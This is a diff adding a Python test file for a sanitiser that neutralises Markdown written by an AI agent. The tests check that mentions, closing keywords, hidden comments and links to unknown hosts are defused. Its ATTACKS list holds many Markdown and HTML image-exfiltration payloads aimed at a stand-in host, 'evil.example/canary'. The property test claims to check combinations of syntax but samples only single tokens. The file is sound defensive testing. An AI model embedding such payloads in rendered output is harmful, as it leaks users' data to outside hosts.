@@ -1,0 +1,167 @@
+"""Markdown of an agent: no mention, image, link to an unknown host, tag or closing keyword stays active."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from labrats.reports.markdown import code_block, neutralised, one_line
+
+KNOWN = frozenset({"github.com", "labrats.example.com"})
+
+ATTACKS = [
+    "![x](https://evil.example/?q=canary)",
+    "![x](//evil.example/canary)",
+    "![x](https:\\/\\/evil.example/canary)",
+    "![x](https&#58;&#47;&#47;evil.example/canary)",
+    "![x](https&colon;&sol;&sol;evil.example/canary)",
+    "![x][1]\n\n[1]: https://evil.example/canary",
+    "![x][1]\n\n[1]: <https://evil.example/canary> 'title'",
+    "![x](https://github.com@evil.example/canary)",
+    "![x](https://github.com:pw@evil.example/canary)",
+    "![x](HTTPS://EVIL.example/canary)",
+    "![x](https://evil.example\\@github.com/canary)",
+    '<img src="https://evil.example/canary">',
+    "<img src=//evil.example/canary>",
+    "<IMG SRC=https:evil.example/canary>",
+    "<picture><source srcset='https://evil.example/canary'></picture>",
+    "\\<img src=https://evil.example/canary>",
+    "<!-- hidden --><details open><summary>x</summary></details>",
+    "<https://evil.example/canary>",
+    "[text](https://evil.example/canary)",
+    "[text](https://evil.example/canary 'github.com')",
+    "[a](<https://evil.example/canary>)",
+    "`code` <img src=https://evil.example/canary> `code`",
+    "```\n<img src=https://evil.example/canary>\n``` not closed\n<img src=https://evil.example/canary>",
+    "``` info`string\n<img src=https://evil.example/canary>\n```",
+    "- item\n  ```\n```\n<img src=https://evil.example/canary>\n```\n```",
+    "> ```\n<img src=https://evil.example/canary>\n> ```",
+    "1. ```\n```\n<img src=https://evil.example/canary>\n```",
+    "~~~\n```\n~~~\n<img src=https://evil.example/canary>\n```",
+    "````\n```\n````\n<img src=https://evil.example/canary>\n```\n",
+    "a\r```\r\n<img src=https://evil.example/canary>\r\n",
+    "```\n\u2028```\n<img src=https://evil.example/canary>",
+    "\t```\n<img src=https://evil.example/canary>\n```",
+    "<x\n```\n<img src=https://evil.example/canary>\n```",
+]
+
+
+class _Rendered(HTMLParser):
+    """The elements of rendered Markdown."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def rendered(text: str) -> _Rendered:
+    return _Rendered(MarkdownIt("commonmark", {"html": True}).render(neutralised(text, KNOWN, 60_000)))
+
+
+def check_harmless(text: str) -> None:
+    allowed = {"p", "a", "img", "ul", "ol", "li", "code", "pre", "em", "strong", "blockquote", "hr", "br"}
+    for tag, attributes in rendered(text).elements:
+        assert tag in allowed | {f"h{level}" for level in range(1, 7)}, f"the tag {tag} is active in {text!r}"
+        for address in (attributes.get("href"), attributes.get("src")):
+            assert not re.match(
+                r"(?i)(?:[a-z]+:)?//(?!(?:github\.com|labrats\.example\.com)(?:[/:?#]|$))", address or ""
+            )
+            assert not re.match(r"(?i)https?:(?!//)", address or ""), f"{address} is active in {text!r}"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_has_no_active_part_when_rendered(attack: str) -> None:
+    check_harmless(attack)
+
+
+IMAGE = "<img src=https://evil.example/c>"
+FENCES = ("```", "~~~", "`", "> ", "- ", "1. ", "\n", "\n\n", "  ", "    ", "\t", "\r")
+SYNTAX = st.sampled_from(
+    (
+        IMAGE,
+        *FENCES,
+        "<",
+        ">",
+        "![x](",
+        "https://evil.example/c",
+        ")",
+        "[1]: ",
+        "[x][1]",
+        "\\",
+        "&#47;",
+        "//",
+        "a",
+        "@",
+        "|",
+    )
+)
+
+
+@given(SYNTAX)
+def test_no_combination_of_syntax_is_active_when_rendered(parts: list[str]) -> None:
+    check_harmless("".join(parts))
+
+
+@pytest.mark.parametrize(
+    "mention", ["@octocat", "thanks @octo/team!", "(@octocat)", "`@octocat`", "a\n@octocat", "&#64;octocat"]
+)
+def test_a_mention_notifies_nobody(mention: str) -> None:
+    text = neutralised(mention, KNOWN, 1000)
+    assert not re.search(r"@[0-9A-Za-z]", text)
+    assert not re.search(r"@[0-9A-Za-z]", rendered(mention).text)
+
+
+@pytest.mark.parametrize(
+    "closing", ["Fixes #12", "closes: octo/other#3", "resolved https://github.com/octo/demo/issues/1", "FIX GH-4"]
+)
+def test_a_closing_keyword_closes_nothing(closing: str) -> None:
+    text = neutralised(closing, KNOWN, 1000)
+    assert not re.search(r"(?i)(close[sd]?|fix(e[sd])?|resolve[sd]?):?\s+([\w.-]+/[\w.-]+)?(#\d|GH-\d|https?://)", text)
+
+
+def test_links_to_known_hosts_stay_as_they_are() -> None:
+    text = "See [the issue](https://github.com/octo/demo/issues/1) and <https://labrats.example.com/jobs/ir-1>."
+    assert neutralised(text, KNOWN, 1000) == text
+
+
+def test_a_closed_block_of_code_stays_as_it_is() -> None:
+    text = "Try:\n```python\n@dataclass\nclass A: ...  # <https://evil.example>\n```\nDone."
+    assert neutralised(text, KNOWN, 1000) == text
+
+
+def test_plain_text_stays_as_it_is() -> None:
+    text = "## Result\n\n- 3 tests pass, a < b, x & y, `src/main.py:3`\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    assert neutralised(text, KNOWN, 1000) == text
+
+
+def test_hidden_comments_and_characters_are_removed() -> None:
+    text = neutralised("a\u202eb <!-- labrats:report {} --> c", KNOWN, 1000)
+    assert "<!--" not in text
+    assert "\u202e" not in text
+
+
+def test_a_long_text_is_cut_with_a_note() -> None:
+    text = neutralised("x" * 5000, KNOWN, 1000)
+    assert len(text.encode()) <= 1000
+    assert "cut here" in text
+
+
+def test_one_line_has_no_line_break() -> None:
+    assert one_line("a\n# b\r\nc" + "d" * 300, KNOWN, 20) == "a # b cdddddddddddd…"
+
+
+def test_a_block_of_code_cannot_be_closed_by_its_text() -> None:
+    text = "```\n<img src=https://evil.example/canary>\n````"
+    html = MarkdownIt("commonmark", {"html": True}).render(code_block(text))
+    assert "<img" not in html
